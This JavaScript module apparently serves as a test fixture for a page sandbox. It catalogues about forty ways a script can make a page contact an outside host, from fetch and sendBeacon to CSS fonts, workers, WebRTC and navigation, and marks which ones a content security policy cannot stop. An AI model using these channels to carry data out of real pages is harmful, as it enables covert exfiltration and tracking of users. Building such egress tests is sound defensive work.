/**
 * The ways in which a script could bring something out of a page, each as a function that is run in
 * the page with the host and port of a listener. `POLICED` are those that the page's policy must
 * stop; `UNPOLICED` those that no policy inside a file can stop, where the program itself must not
 * take them.
 */

const link = (rel, more = "") => `(host) => {
  const link = document.createElement("link");
  Object.assign(link, { rel: "${rel}", href: "http://" + host + "/link" ${more} });
  document.head.append(link);
}`;

const element = (name, attribute, scheme = "http") => `(host) => {
  const element = document.createElement("${name}");
  element.setAttribute("${attribute}", "${scheme}://" + host + "/element");
  document.body.append(element);
}`;

const style = (text) => `(host) => {
  const style = document.createElement("style");
  style.textContent = ${JSON.stringify(text)}.replaceAll("HOST", "http://" + host);
  document.head.append(style);
}`;

const worker = (kind) => `(host) => {
  const text = "fetch('http://" + host + "/worker', { mode: 'no-cors' })";
  const address = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  new ${kind}(address);
}`;

export const POLICED = {
  fetch: `(host) => fetch("http://" + host + "/fetch", { mode: "no-cors" })`,
  "fetch, kept alive": `(host) => fetch("http://" + host, { mode: "no-cors", method: "POST", body: "x", keepalive: true })`,
  XMLHttpRequest: `(host) => {
    const request = new XMLHttpRequest();
    request.open("POST", "http://" + host + "/xhr");
    request.send("x");
  }`,
  WebSocket: `(host) => new WebSocket("ws://" + host + "/socket")`,
  EventSource: `(host) => new EventSource("http://" + host + "/events")`,
  sendBeacon: `(host) => navigator.sendBeacon("http://" + host + "/beacon", "x")`,
  "<a ping>": `(host) => {
    const link = document.createElement("a");
    Object.assign(link, { href: "#start", ping: "http://" + host + "/ping" });
    document.body.append(link);
    link.click();
  }`,
  "prefetch link": link("prefetch"),
  "preload link": link("preload", `, as: "image"`),
  "module preload link": link("modulepreload"),
  "style sheet link": link("stylesheet"),
  "icon link": link("icon"),
  "manifest link": link("manifest"),
  image: element("img", "src"),
  "image in SVG": `(host) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", "http://" + host + "/svg");
    svg.append(image);
    document.body.append(svg);
  }`,
  video: element("video", "src"),
  "video poster": element("video", "poster"),
  audio: element("audio", "src"),
  "text track": `(host) => {
    const video = document.createElement("video");
    video.crossOrigin = "anonymous";
    const track = document.createElement("track");
    Object.assign(track, { src: "http://" + host + "/track", default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = "showing";
  }`,
  object: element("object", "data"),
  embed: element("embed", "src"),
  frame: element("iframe", "src"),
  script: element("script", "src"),
  "module script": `(host) => {
    const script = document.createElement("script");
    Object.assign(script, { type: "module", src: "http://" + host + "/module" });
    document.body.append(script);
  }`,
  "imported module": `(host) => {
    const script = document.createElement("script");
    script.textContent = "import('http://" + host + "/import').catch(() => {})";
    document.body.append(script);
  }`,
  "imported style": style(`@import "HOST/import.css";`),
  "background in a style": style(`body { background: url("HOST/background.png") }`),
  "font in a style": style(
    `@font-face { font-family: probe; src: url("HOST/font.woff2") } body { font-family: probe }`,
  ),
  "background in a style attribute": `(host) => {
    document.body.setAttribute("style", "background: url(http://" + host + "/attribute.png)");
  }`,
  worker: worker("Worker"),
  "shared worker": worker("SharedWorker"),
  "script imported by a worker": `(host) => {
    const text = "importScripts('http://" + host + "/imported.js')";
    new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  }`,
  "streamed WebAssembly": `(host) => WebAssembly.compileStreaming(fetch("http://" + host + "/wasm", { mode: "no-cors" }))`,
  form: `(host) => {
    const form = document.createElement("form");
    Object.assign(form, { action: "http://" + host + "/form", method: "post", target: "sent" });
    const frame = document.createElement("iframe");
    frame.name = "sent";
    document.body.append(frame, form);
    form.submit();
  }`,
};

export const UNPOLICED = {
  "preconnect link": link("preconnect"),
  "DNS prefetch link": link("dns-prefetch"),
  WebRTC: `(host) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] });
    connection.createDataChannel("x");
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    window.kept = connection;
  }`,
  "another window": `(host) => { window.open("http://" + host + "/window"); }`,
  "meta refresh": `(host) => {
    const meta = document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: "0;url=http://" + host + "/refresh" });
    document.head.append(meta);
  }`,
  navigation: `(host) => { location.href = "http://" + host + "/location"; }`,
};
